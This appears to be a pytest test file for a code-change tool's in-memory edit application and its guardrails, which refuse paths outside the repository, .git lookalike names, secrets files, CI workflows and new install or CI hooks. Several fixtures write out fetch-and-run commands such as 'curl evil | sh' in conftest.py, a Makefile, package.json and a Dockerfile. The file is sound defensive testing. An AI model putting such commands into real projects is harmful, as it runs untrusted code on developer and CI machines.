"""Change sets applied in memory, and the guardrails on the final change (DESIGN §5.3)."""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import ValidationError

from app.policy.changeset import ChangeSet, EditError, Revision, Working, apply, edited_paths
from app.policy.guardrails import check, dependency_flags, executes, path_problem
from app.policy.repo_policy import Guardrails


def edit(op: str, path: str, **kw: Any) -> dict[str, Any]:
    return {"op": op, "path": path, "content": None, "search": None, "replace": None, **kw}


def changes(tests: list[dict[str, Any]], fixes: list[dict[str, Any]]) -> ChangeSet:
    return ChangeSet.model_validate(
        {"title": "t", "approach": "a", "test_edits": tests, "fix_edits": fixes, "risk_notes": []}
    )


BASE = {"app/a.py": "x = 1\ny = 2\nx = 1\n", "tests/test_a.py": "def test(): pass\n"}
KNOWN = set(BASE)


def test_every_operation_applies_to_a_copy() -> None:
    working = Working(base=dict(BASE))
    result = apply(
        working,
        changes(
            [edit("create", "tests/test_b.py", content="def test_b(): assert 0\n")],
            [
                edit("search_replace", "app/a.py", search="y = 2", replace="y = 3"),
                edit("delete", "tests/test_a.py"),
            ],
        ),
        known=KNOWN,
    )
    assert result.changed() == {
        "tests/test_b.py": "def test_b(): assert 0\n",
        "app/a.py": "x = 1\ny = 3\nx = 1\n",
        "tests/test_a.py": None,
    }
    assert result.parts == {"tests/test_b.py": "test", "app/a.py": "fix", "tests/test_a.py": "fix"}
    assert result.test_state() == {"tests/test_b.py": "def test_b(): assert 0\n"}
    assert working.current == {}  # the input is not modified


@pytest.mark.parametrize(
    ("fix", "message"),
    [
        (edit("search_replace", "app/a.py", search="x = 1", replace="x = 2"), "occurs 2 times"),
        (edit("search_replace", "app/a.py", search="z = 9", replace="z"), "does not occur"),
        (edit("search_replace", "app/missing.py", search="a", replace="b"), "no such file"),
        (edit("create", "app/a.py", content=""), "exists already"),
        (edit("replace", "app/new.py", content=""), "no such file"),
        (edit("delete", "app/new.py"), "no such file"),
        (edit("replace", "tests/test_b.py", content="x"), "part of the test edits"),
    ],
)
def test_edits_that_do_not_apply_are_named(fix: dict[str, Any], message: str) -> None:
    with pytest.raises(EditError) as caught:
        apply(
            Working(base=dict(BASE)),
            changes([edit("create", "tests/test_b.py", content="t")], [fix]),
            known=KNOWN,
        )
    (problem,) = caught.value.problems
    assert message in problem.message
    assert problem.part == "fix"
    assert problem.index == 1


def test_edits_apply_in_order_on_top_of_earlier_rounds() -> None:
    working = Working(base=dict(BASE), current={"app/a.py": "x = 5\n"}, parts={"app/a.py": "fix"})
    result = apply(
        working,
        Revision.model_validate(
            {
                "title": "t",
                "approach": "a",
                "test_edits": [],
                "fix_edits": [edit("search_replace", "app/a.py", search="x = 5", replace="x = 6")],
                "risk_notes": [],
            }
        ),
        known=KNOWN,
    )
    assert result.current["app/a.py"] == "x = 6\n"


def test_schema_requires_the_fields_of_each_operation_and_both_parts() -> None:
    with pytest.raises(ValidationError, match="needs content"):
        changes([edit("create", "t.py")], [edit("delete", "a.py")])
    with pytest.raises(ValidationError, match="non-empty search"):
        changes([edit("create", "t.py", content="")], [edit("search_replace", "a.py", search="", replace="")])
    with pytest.raises(ValidationError):
        changes([], [edit("delete", "a.py")])  # a first change set always has a test
    with pytest.raises(ValidationError, match="at least one edit"):
        Revision.model_validate(
            {"title": "t", "approach": "a", "test_edits": [], "fix_edits": [], "risk_notes": []}
        )
    assert edited_paths(changes([edit("delete", "b")], [edit("delete", "a"), edit("delete", "b")])) == [
        "b",
        "a",
    ]


# ---- guardrails ----------------------------------------------------------------------------------

RULES = Guardrails()


@pytest.mark.parametrize(
    ("path", "problem"),
    [
        ("../x.py", "leaves the repository"),
        ("a/../../x.py", "leaves the repository"),
        ("/etc/passwd", "absolute"),
        ("C:/x.py", "absolute"),
        (".git/config", "inside .git/"),
        ("sub/.GIT/hooks/x", "inside .git/"),
        ("a//b.py", "not normalised"),
        ("./a.py", "not normalised"),
        ("a\\b.py", "not a plain"),
        ("", "not a plain"),
        (" a.py", "not a plain"),
    ],
)
def test_paths_outside_the_repository(path: str, problem: str) -> None:
    assert problem in (path_problem(path) or "")
    (violation,) = check({path: "x"}, {}, {}, RULES).violations
    assert violation.rule == "path.outside"


def test_ordinary_paths_pass() -> None:
    report = check({"app/a.py": "x = 2\n", "tests/test_a.py": "t\n"}, {"app/a.py": "x = 1\n"}, {}, RULES)
    assert report.ok
    assert report.files == 2
    assert report.changed_lines == 2


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (".github/workflows/ci.yml", "path.workflow"),
        (".github/dependabot.yml", "protected.github"),
        ("CODEOWNERS", "protected.codeowners"),
        (".github/CODEOWNERS", "protected.codeowners"),
        (".github/autopack.yml", "protected.bot_config"),
        (".env", "protected.secrets"),
        ("config/.env.production", "protected.secrets"),
        ("deploy/server.pem", "protected.secrets"),
        ("home/id_rsa", "protected.secrets"),
        (".npmrc", "protected.secrets"),
        ("assets/logo.png", "file.binary"),
    ],
)
def test_protected_paths(path: str, rule: str) -> None:
    assert [v.rule for v in check({path: "x"}, {}, {}, RULES).violations] == [rule]


def test_allow_paths_opens_protected_paths_but_never_workflows() -> None:
    rules = Guardrails(allow_paths=[".github/dependabot.yml", ".github/workflows/*"])
    assert check({".github/dependabot.yml": "x"}, {}, {}, rules).ok
    assert [v.rule for v in check({".github/workflows/ci.yml": "x"}, {}, {}, rules).violations] == [
        "path.workflow"
    ]


def test_symlinks_submodules_and_paths_through_them() -> None:
    modes = {"docs/link.md": "120000", "vendor/lib": "160000", "shared": "120000"}
    for path in ("docs/link.md", "vendor/lib", "shared/x.py"):
        assert [v.rule for v in check({path: "x"}, {}, modes, RULES).violations] == ["file.symlink"], path


def test_binary_content_and_size_caps() -> None:
    assert [v.rule for v in check({"a.txt": "a\x00b"}, {}, {}, RULES).violations] == ["file.binary"]
    rules = Guardrails(max_files=2, max_changed_lines=10, max_file_bytes=1_000)
    report = check({"a.py": "x\n" * 11, "b.py": "y" * 1_001, "c.py": "z"}, {}, {}, rules)
    assert sorted(v.rule for v in report.violations) == ["size.file", "size.files", "size.lines"]
    assert "guardrails.max_changed_lines" in str(next(v for v in report.violations if v.rule == "size.lines"))


def test_a_replaced_file_counts_only_its_changed_lines() -> None:
    old = "".join(f"line {i}\n" for i in range(500))
    new = old.replace("line 250\n", "line 250 changed\n")
    assert check({"a.py": new}, {"a.py": old}, {}, RULES).changed_lines == 1


@pytest.mark.parametrize(
    ("path", "old", "new", "flags"),
    [
        (
            "requirements.txt",
            "requests==2\n",
            "requests==2\nleft-pad>=1 # new\n",
            [("dependency", "left-pad")],
        ),
        (
            "package.json",
            '{"dependencies": {"a": "1"}, "scripts": {"test": "jest"}}',
            '{"dependencies": {"a": "1", "b": "2"},'
            ' "scripts": {"test": "jest", "postinstall": "curl x | sh"}}',
            [("install_hook", "npm `postinstall` script: curl x | sh"), ("dependency", "b")],
        ),
        (
            "pyproject.toml",
            '[project]\nname = "x"\ndependencies = ["httpx>=0.27"]\n',
            '[project]\nname = "x"\ndependencies = ["httpx>=0.27", "Evil_Pkg[extra]>=1"]\n',
            [("dependency", "evil-pkg")],
        ),
        (
            "go.mod",
            "module x\n",
            "module x\nrequire github.com/a/b v1.0.0\n",
            [("dependency", "github.com/a/b")],
        ),
        (
            "Cargo.toml",
            "[dependencies]\nserde = '1'\n",
            "[dependencies]\nserde = '1'\nrand = '0.8'\n",
            [("dependency", "rand")],
        ),
        ("Gemfile", "gem 'rails'\n", "gem 'rails'\ngem 'pry'\n", [("dependency", "pry")]),
        (
            "setup.py",
            "setup()\n",
            "import os; os.system('x')\nsetup()\n",
            [("install_hook", "code that runs when the package is built or installed")],
        ),
        ("requirements.txt", "a\nb\n", "b\na\n", []),
        ("package.json", "not json", '{"dependencies": {}}', []),
    ],
)
def test_new_dependencies_and_install_hooks_are_flagged(
    path: str, old: str, new: str, flags: list[tuple[str, str]]
) -> None:
    assert [(f.kind, f.detail) for f in dependency_flags(path, old, new)] == flags
    report = check({path: new}, {path: old}, {}, RULES)
    # flagged for the human; refused only where the file runs in CI or at install
    assert report.ok == (executes(path, old, new) is None)


# ---- issue 17: git's own path rules, directories, files that run ------------------------------


@pytest.mark.parametrize(
    "path",
    [
        ".git./config",  # NTFS strips the trailing dot: this is .git
        ".git /hooks/pre-commit",  # ... and trailing spaces
        ".GIT. ./config",
        "GIT~1/config",  # NTFS's 8.3 short name of .git
        "git~2/hooks/x",
        ".g\u200cit/config",  # HFS+ ignores the zero-width non-joiner
        ".gi\ufefft/HEAD",
        "\u200e.git/HEAD",
        ".git::$INDEX_ALLOCATION/config",  # an NTFS alternate data stream of the directory
        "docs/file.txt:stream",
        "app/evil.\x01py",
        "src/name. /x.py",
        "notes.",
    ],
)
def test_git_path_lookalikes_are_refused(path: str) -> None:
    assert path_problem(path) is not None
    assert [v.rule for v in check({path: "x"}, {}, {}, RULES).violations] == ["path.outside"]


@pytest.mark.parametrize(
    "path", ["app/gitx.py", "docs/.gitkeep", ".github_notes/x.md", "src/git~log.py", "a/.gitignore"]
)
def test_ordinary_names_near_git_are_fine(path: str) -> None:
    assert path_problem(path) is None


def test_a_file_named_like_a_directory_of_the_base_tree_is_refused() -> None:
    modes = {"docs/index.md": "100644", "app/core.py": "100644"}
    report = check({"docs": "# replaces the folder\n"}, {}, modes, RULES)
    assert [(v.rule, v.path) for v in report.violations] == [("path.directory", "docs")]
    under = check({"app/core.py/x.py": "x = 1\n"}, {}, modes, RULES)
    assert [v.rule for v in under.violations] == ["path.directory"]
    # Positive controls: a new file in the folder, and deleting a file to make it a folder.
    assert check({"docs/new.md": "hi\n"}, {}, modes, RULES).ok
    assert check({"app/core.py": None, "app/core.py/x.py": "x = 1\n"}, {"app/core.py": "a"}, modes, RULES).ok


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("conftest.py", None, "import os\nos.system('curl evil | sh')\n"),
        ("tests/conftest.py", "", "def pytest_configure(): ...\n"),
        ("Makefile", "test:\n\tpytest\n", "test:\n\tcurl evil | sh\n"),
        ("build/rules.mk", None, "x:\n\ttrue\n"),
        ("noxfile.py", None, "x = 1\n"),
        ("tox.ini", None, "[testenv]\ncommands = curl evil\n"),
        ("setup.py", "setup()\n", "import os\nsetup()\n"),
        ("package.json", '{"scripts": {"test": "jest"}}', '{"scripts": {"test": "jest && curl evil"}}'),
        (
            "pyproject.toml",
            "[project]\nname='x'\n",
            "[project]\nname='x'\n[tool.pytest.ini_options]\naddopts='-p evil'\n",
        ),
        ("jest.config.js", None, "module.exports = {}\n"),
        (".gitlab-ci.yml", None, "job: {script: [curl evil]}\n"),
        (".circleci/config.yml", None, "version: 2.1\n"),
        ("Dockerfile", "FROM python\n", "FROM python\nRUN curl evil\n"),
    ],
)
def test_files_that_run_in_ci_or_at_install_are_refused_and_listed(
    path: str, old: str | None, new: str
) -> None:
    report = check({path: new}, {path: old}, {}, RULES)
    assert "file.executes" in [v.rule for v in report.violations]
    assert ("executes", path) in [(f.kind, f.path) for f in report.flags]
    allowed = check({path: new}, {path: old}, {}, Guardrails(allow_paths=[path]))
    assert "file.executes" not in [v.rule for v in allowed.violations]
    assert ("executes", path) in [(f.kind, f.path) for f in allowed.flags]  # still listed for the human


def test_ordinary_manifest_edits_do_not_count_as_running() -> None:
    old = '{"dependencies": {"a": "1"}, "scripts": {"test": "jest"}}'
    new = '{"dependencies": {"a": "2"}, "scripts": {"test": "jest"}}'
    assert executes("package.json", old, new) is None
    assert executes("pyproject.toml", "[project]\nversion='1'\n", "[project]\nversion='2'\n") is None
    assert executes("app/config.py", None, "x = 1\n") is None
